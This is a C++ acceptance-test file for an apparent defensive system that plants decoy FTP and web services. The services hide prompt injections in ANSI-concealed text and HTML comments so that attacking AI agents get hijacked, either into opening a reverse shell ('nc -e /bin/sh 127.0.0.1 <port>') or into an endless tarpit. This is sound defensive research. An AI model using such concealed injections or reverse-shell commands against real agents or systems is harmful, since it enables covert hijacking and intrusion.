// One PASS/FAIL line per acceptance criterion; exit status 1 if any fails.
#include <httplib.h>

#include <chrono>
#include <cmath>
#include <cstdio>
#include <functional>
#include <optional>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "mantis/decoy_ftp.hpp"
#include "mantis/decoy_web.hpp"
#include "mantis/manager.hpp"
#include "mantis/net.hpp"
#include "mantis/payload.hpp"
#include "mantis/rng.hpp"
#include "mantis/sim.hpp"
#include "mantis/tarpit.hpp"
#include "support.hpp"

using namespace mantis;
using namespace std::chrono_literals;

namespace {

// Thrown by expect(); carries the first violated condition.
struct Failure {
    std::string what;
};

void expect(bool ok, const std::string& what) {
    if (!ok) throw Failure{what};
}

template <typename T>
std::string str(const T& v) {
    std::ostringstream os;
    os << v;
    return os.str();
}

const std::string kEsc(1, '\x1b');

std::string ansi_oracle(const std::string& text) { return kEsc + "[8m" + text + kEsc + "[0m"; }

std::string html_oracle(const std::string& text) { return "<!-- " + kEsc + "[8m " + text + " " + kEsc + "[0m -->"; }

// Printable ASCII without '-' so no text can contain the comment terminator.
std::string random_text(SplitMix64& rng, std::size_t n) {
    std::string out;
    while (out.size() < n) {
        char c = char(0x20 + rng() % 95);
        if (c != '-') out.push_back(c);
    }
    return out;
}

ManagerConfig loopback_counterstrike() {
    ManagerConfig cfg;
    cfg.objective = SabotageObjective{CounterstrikeParams{0, 0, "127.0.0.1"}};
    cfg.bind_host = "127.0.0.1";
    cfg.port_range = {20000, 60999};
    cfg.seed = 11;
    cfg.verify_timeout = 1000ms;
    cfg.initiator_grace = 200ms;
    return cfg;
}

sim::GameConfig game(const std::string& policy, const std::string& defense, std::uint64_t seed,
                     std::uint32_t branching = 10) {
    sim::GameConfig g;
    g.policy = *sim::parse_policy(policy);
    g.defense = *sim::parse_defense(defense);
    g.seed = seed;
    g.branching = branching;
    return g;
}

// ---- 1 ---------------------------------------------------------------------

void concealment() {
    SplitMix64 rng(20240501);
    std::vector<std::string> corpus = {"", std::string(1024, 'x'), random_text(rng, 1024), "a", " "};
    while (corpus.size() < 50) corpus.push_back(random_text(rng, rng() % 600));
    for (const auto& text : corpus) {
        const auto a = conceal_ansi(text);
        const auto h = conceal_html(text);
        expect(a == ansi_oracle(text), "ansi wrapper differs for a " + str(text.size()) + "-byte text");
        expect(h == html_oracle(text), "html wrapper differs for a " + str(text.size()) + "-byte text");
        expect(reveal_ansi(a) == text, "ansi round trip lost bytes");
        expect(reveal_html(h) == text, "html round trip lost bytes");
    }
}

// ---- 2 ---------------------------------------------------------------------

void ftp_transcript() {
    EventLog log;
    InjectionManager mgr(loopback_counterstrike(), log);
    mgr.register_decoy("ftp-decoy");
    FtpServer server(Listener("127.0.0.1", 0), "ftp-decoy", ftp_decoy_factory(FtpDecoyConfig{}, &mgr),
                     PortRange{20000, 60999});
    Socket ctl = connect_tcp({"127.0.0.1", server.port()});
    LineReader lines(ctl);
    auto next = [&] { return lines.next(1000ms).value_or("<timeout>"); };

    const auto l220 = next();
    ctl.write_all("USER anonymous\r\n");
    const auto l331 = next();
    ctl.write_all("PASS anonymous@\r\n");
    const auto l230 = next();
    ctl.write_all("QUIT\r\n");
    next();
    ctl.close();
    server.stop();

    expect(l220.starts_with("220 "), "first line is '" + l220 + "'");
    expect(l331.starts_with("331 "), "second line is '" + l331 + "'");
    expect(l230.starts_with("230 "), "third line is '" + l230 + "'");
    const auto armed = mgr.snapshot().armed_decoys;
    expect(armed.count("ftp-decoy") == 1, "no payload armed for the decoy");
    const auto& payload = armed.at("ftp-decoy").assembled;
    expect(l230 == "230 Login successful. " + payload, "230 line does not carry the armed payload");
    expect(payload.starts_with(kEsc + "[8m") && payload.ends_with(kEsc + "[0m"), "payload is not ANSI concealed");

    int activations = 0;
    for (const auto& r : log.records_of("activation")) {
        expect(r.detail["event"] == "ftp_anonymous_login", "unexpected activation " + r.detail.dump());
        ++activations;
    }
    expect(activations == 1, str(activations) + " activation records");
    mgr.shutdown();
}

// ---- 3 ---------------------------------------------------------------------

void counterstrike() {
    for (std::uint64_t seed = 1; seed <= 10; ++seed) {
        auto rec = sim::run_game(game("compliant", "ftp:counterstrike", seed));
        expect(rec.outcome == sim::GameOutcome::defender_win,
               "seed " + str(seed) + " ended " + std::string(sim::to_string(rec.outcome)));
    }

    // Fetch the initiator ourselves just before the agent does.
    auto cfg = game("compliant", "ftp:counterstrike", 1);
    sim::Environment env(cfg);
    auto policy = sim::make_policy(cfg, env.target_host());
    std::optional<std::string> body;
    std::uint16_t shell_port = 0;
    for (int round = 1; round <= cfg.max_rounds && !env.shell_verified(); ++round) {
        auto action = policy->next_action();
        if (!body && action.find("curl") != std::string::npos) {
            std::uint16_t http_port = 0;
            for (const auto& s : env.manager()->snapshot().live_services) {
                if (s.kind == ServiceKind::shell_listener) shell_port = s.port;
                if (s.kind == ServiceKind::initiator_http) http_port = s.port;
            }
            expect(http_port != 0 && shell_port != 0, "services not running when the agent follows");
            httplib::Client cli("127.0.0.1", http_port);
            cli.set_connection_timeout(1);
            if (auto res = cli.Get("/")) body = res->body;
        }
        policy->observe(action, env.execute(action).response);
    }
    const bool verified = env.shell_verified();
    env.finish();
    expect(body.has_value(), "initiator was never fetched");
    expect(*body == "nc -e /bin/sh 127.0.0.1 " + str(shell_port) + "\n", "initiator body is '" + *body + "'");
    expect(verified, "reverse shell not verified in the observed game");
}

// ---- 4 ---------------------------------------------------------------------

void tarpit() {
    const std::string final_line = "226 Directory send OK " + ansi_oracle(std::string(kTarpitReinjection));
    for (std::uint64_t seed = 1; seed <= 10; ++seed) {
        auto rec = sim::run_game(game("compliant", "ftp:tarpit", seed));
        const auto& t = rec.agent.transcript;
        expect(rec.outcome == sim::GameOutcome::defender_win, "seed " + str(seed) + " not a defender win");
        expect(int(t.size()) == 30, "seed " + str(seed) + " used " + str(t.size()) + " rounds");
        std::size_t entry = 0;
        while (entry < t.size() && t[entry].phase != sim::Phase::in_tarpit) ++entry;
        expect(entry < t.size(), "seed " + str(seed) + " never entered the tarpit");
        for (std::size_t i = entry; i < t.size(); ++i) {
            expect(t[i].phase == sim::Phase::in_tarpit, "seed " + str(seed) + " left at round " + str(t[i].round));
            if (t[i].listing_bytes > 0)
                expect(t[i].response.find(final_line) != std::string::npos,
                       "seed " + str(seed) + " round " + str(t[i].round) + " listing lacks the re-injection");
        }
        expect(rec.listing_rounds > 0, "seed " + str(seed) + " saw no listing");
    }

    TarpitConfig tc;
    tc.seed = 77;
    tc.branching = 10;
    Tarpit a(tc), b(tc);
    auto key = a.root();
    for (int depth = 0; depth < 10000; ++depth) {
        auto kids = a.children(key);
        expect(kids.size() >= 10 && kids.size() < 20, "depth " + str(depth) + " has " + str(kids.size()) + " children");
        key = a.child_key(key, kids[depth % kids.size()].name);
    }

    // Depth-first prefix, node for node, against an independent instance.
    std::size_t nodes = 0;
    std::function<void(Tarpit::NodeKey, Tarpit::NodeKey, int)> walk = [&](auto ka, auto kb, int depth) {
        auto ca = a.children(ka);
        auto cb = b.children(kb);
        expect(ca.size() == cb.size(), "child counts diverge at node " + str(nodes));
        for (std::size_t i = 0; i < ca.size(); ++i) {
            expect(ca[i].name == cb[i].name && ca[i].date == cb[i].date && ca[i].size == cb[i].size,
                   "entry diverges at node " + str(nodes));
            ++nodes;
            if (depth < 2) walk(a.child_key(ka, ca[i].name), b.child_key(kb, cb[i].name), depth + 1);
        }
    };
    walk(a.root(), b.root(), 0);
    expect(nodes > 1000, "prefix too small");
}

// ---- 5 ---------------------------------------------------------------------

void cost() {
    std::vector<double> costs, ratios;
    for (std::uint32_t b : {10u, 100u, 1000u}) {
        auto sum = sim::run_campaign(game("compliant", "ftp:tarpit", 1, b), 3);
        std::uint64_t bytes = 0;
        int rounds = 0;
        for (const auto& r : sum.records) {
            bytes += r.listing_bytes;
            rounds += r.listing_rounds;
        }
        expect(rounds > 0, "no listing rounds at b=" + str(b));
        costs.push_back(sum.total_cost);
        ratios.push_back(double(bytes) / rounds / b);
    }
    expect(costs[0] < costs[1] && costs[1] < costs[2],
           "costs " + str(costs[0]) + ", " + str(costs[1]) + ", " + str(costs[2]));
    for (std::size_t i = 1; i < ratios.size(); ++i)
        expect(std::abs(ratios[i] / ratios[0] - 1.0) <= 0.10,
               "bytes/round/branching " + str(ratios[i]) + " vs " + str(ratios[0]));
}

// ---- 6 ---------------------------------------------------------------------

std::string honest_ftp(ActivationSink* sink) {
    testing::FakeDataChannel data;
    FtpDecoySession s(FtpDecoyConfig{}, sink, data, "ftp-decoy-1", {"127.0.0.1", 41000});
    std::string out = s.greeting();
    for (auto line : {"USER alice", "PASS correct-horse", "SYST", "USER bob", "PASS hunter2", "QUIT"})
        out += s.handle(std::string(line) + "\r\n").control;
    return out;
}

std::string honest_web(ActivationSink* sink) {
    WebDecoy decoy(WebDecoyConfig{}, sink);
    std::string out = decoy.front().body;
    for (auto q : {"username=alice&password=Winter2024", "username=bob.smith%40corp&password=p%40ss+word"})
        out += decoy.login(q, {"127.0.0.1", 41001}).response.body;
    return out;
}

void benign() {
    EventLog log;
    InjectionManager mgr(loopback_counterstrike(), log);
    mgr.register_decoy("ftp-decoy");
    mgr.register_decoy("web-decoy");
    const auto ftp_armed = honest_ftp(&mgr);
    const auto web_armed = honest_web(&mgr);
    mgr.shutdown();
    expect(ftp_armed == honest_ftp(nullptr), "ftp transcript differs when armed");
    expect(web_armed == honest_web(nullptr), "web transcript differs when armed");
    for (const auto* t : {&ftp_armed, &web_armed}) {
        expect(t->find('\x1b') == std::string::npos, "escape byte in a benign transcript");
        expect(t->find("<!--") == std::string::npos, "comment in a benign transcript");
    }
    expect(log.records_of("payload_armed").empty(), "a payload was armed for an honest user");
}

// ---- 7 ---------------------------------------------------------------------

void baseline() {
    auto sum = sim::run_campaign(game("exploit_only", "none", 1), 10);
    expect(sum.obj_a == 10, "attacker won " + str(sum.obj_a) + "/10");
    expect(sum.mean_rounds <= 8.0, "mean rounds " + str(sum.mean_rounds));
}

// ---- 8 ---------------------------------------------------------------------

void truth_table() {
    for (int bits = 0; bits < 8; ++bits) {
        const bool flag = bits & 1, sabotage = bits & 2, exhausted = bits & 4;
        sim::GameOutcome want = sim::GameOutcome::draw;
        if (flag)
            want = sim::GameOutcome::attacker_win;
        else if (sabotage)
            want = sim::GameOutcome::defender_win;
        auto got = sim::adjudicate(flag, sabotage, exhausted);
        const std::string row = "flag=" + str(flag) + " sabotage=" + str(sabotage) + " exhausted=" + str(exhausted);
        expect(got.outcome == want, row + " gave " + std::string(sim::to_string(got.outcome)));
        expect(got.anomaly == (flag && sabotage), row + " anomaly flag wrong");
    }
}

// ---- 9 ---------------------------------------------------------------------

std::uint64_t fnv1a(std::string_view bytes) {
    std::uint64_t h = 1469598103934665603ull;
    for (unsigned char c : bytes) {
        h ^= c;
        h *= 1099511628211ull;
    }
    return h;
}

void gateway() {
    std::mutex mu;
    std::string received;
    TcpServer echo(Listener("127.0.0.1", 0), [&](Socket& s) {
        char buf[16384];
        while (true) {
            auto n = s.read_some(buf, 5000ms);
            if (!n || *n == 0) break;
            {
                std::lock_guard lock(mu);
                received.append(buf, *n);
            }
            s.write_all({buf, *n});
        }
        s.shutdown_write();
    });
    EventLog log;
    {
        Gateway gw(Listener("127.0.0.1", 0), {"127.0.0.1", echo.port()}, log);
        SplitMix64 rng(9);
        std::string sent(1 << 20, '\0');
        for (auto& c : sent) c = char(rng() & 0xff);
        Socket c = connect_tcp({"127.0.0.1", gw.port()});
        std::thread writer([&] {
            for (std::size_t off = 0; off < sent.size(); off += 65536)
                c.write_all(std::string_view(sent).substr(off, 65536));
            c.shutdown_write();
        });
        const auto echoed = c.read_all(10000ms);
        writer.join();
        c.close();
        gw.stop();
        std::lock_guard lock(mu);
        expect(fnv1a(received) == fnv1a(sent) && received.size() == sent.size(), "client to upstream digest differs");
        expect(fnv1a(echoed) == fnv1a(sent) && echoed.size() == sent.size(), "upstream to client digest differs");
    }

    std::uint16_t dead;
    {
        Listener l("127.0.0.1", 0);
        dead = l.port();
    }
    Gateway gw(Listener("127.0.0.1", 0), {"127.0.0.1", dead}, log, 500ms);
    Socket c = connect_tcp({"127.0.0.1", gw.port()});
    c.write_all("ping");
    expect(c.read_all(3000ms).empty(), "client got bytes from a dead upstream");
    gw.stop();
    expect(log.records_of("gateway_upstream_down").size() == 1, "no gateway_upstream_down record");
}

struct Criterion {
    const char* name;
    std::function<void()> run;
    std::chrono::milliseconds budget;
};

}  // namespace

int main() {
    const std::vector<Criterion> criteria = {
        {"concealment wrappers and round trip", concealment, 1000ms},
        {"ftp decoy transcript and activation record", ftp_transcript, 2000ms},
        {"counterstrike against a compliant agent", counterstrike, 30000ms},
        {"tarpit containment and infinite tree", tarpit, 60000ms},
        {"tarpit cost grows with branching", cost, 60000ms},
        {"honest users see nothing", benign, 10000ms},
        {"exploit_only baseline wins", baseline, 60000ms},
        {"adjudication truth table", truth_table, 1000ms},
        {"gateway relays transparently", gateway, 20000ms},
    };
    int failed = 0;
    for (std::size_t i = 0; i < criteria.size(); ++i) {
        const auto& c = criteria[i];
        const auto t0 = std::chrono::steady_clock::now();
        std::string why;
        try {
            c.run();
        } catch (const Failure& f) {
            why = f.what;
        } catch (const std::exception& e) {
            why = std::string("exception: ") + e.what();
        }
        const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0);
        if (why.empty() && ms > c.budget) why = "took " + str(ms.count()) + " ms, budget " + str(c.budget.count());
        std::printf("%s %zu %s (%lld ms)%s%s\n", why.empty() ? "PASS" : "FAIL", i + 1, c.name,
                    static_cast<long long>(ms.count()), why.empty() ? "" : ": ", why.c_str());
        std::fflush(stdout);
        if (!why.empty()) ++failed;
    }
    return failed ? 1 : 0;
}
